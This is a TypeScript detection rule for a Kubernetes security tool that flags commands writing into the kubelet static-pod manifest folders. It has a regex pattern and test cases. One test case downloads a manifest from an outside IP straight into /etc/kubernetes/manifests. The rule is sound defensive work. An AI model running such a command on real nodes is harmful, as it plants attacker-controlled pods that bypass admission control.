import type { BuiltInRule } from '../built-in-rule';

const WRITTEN = String.raw`(>|\b(tee|cp|mv|install|ln|dd|sed +-i|vi|vim|nano|curl.*-o|wget.*(-O|-P))\b).*(\/etc\/kubernetes\/manifests|\/etc\/kubelet\.d|staticpods?)\b`;

export const staticPodLeft: BuiltInRule = {
  kind: 'rule',
  name: 'static-pod-left',
  title: 'A pod of the kubelet\u2019s own was left on a node',
  about:
    'A command writes into the folder of manifests from which the kubelet starts pods by itself: no admission sees them.',
  level: 'high',
  confidence: 'medium',
  types: ['node'],
  techniques: ['T1543.005'],
  matrix: ['MS-TA9017'],
  falsePositives: 'kubeadm and other installers when a node of the control plane is made or upgraded.',
  next: [
    { title: 'All that was run on the node', q: 'type:node node:"NAME" command:* | fields time, user, command' },
    {
      title: 'Pods of that kind that the API server was told of',
      q: 'type:audit verb:create resource:pods user:system:node* | count by user, namespace, pod',
    },
  ],
  q: `type:node (command:/${WRITTEN}/ or proc.cmdline:/${WRITTEN}/)`,
  by: ['node', 'user', 'pod'],
  hits: [
    { type: 'node', attributes: { command: '/usr/bin/cp x.yaml /etc/kubernetes/manifests/' } },
    {
      type: 'node',
      attributes: { command: 'sh -c curl -s http://203.0.113.9/p.yaml -o /etc/kubernetes/manifests/p.yaml' },
    },
  ],
  misses: [
    { type: 'node', attributes: { command: 'ls /etc/kubernetes/manifests' } },
    { type: 'node', attributes: { command: 'cat /etc/kubernetes/manifests/etcd.yaml' } },
  ],
};
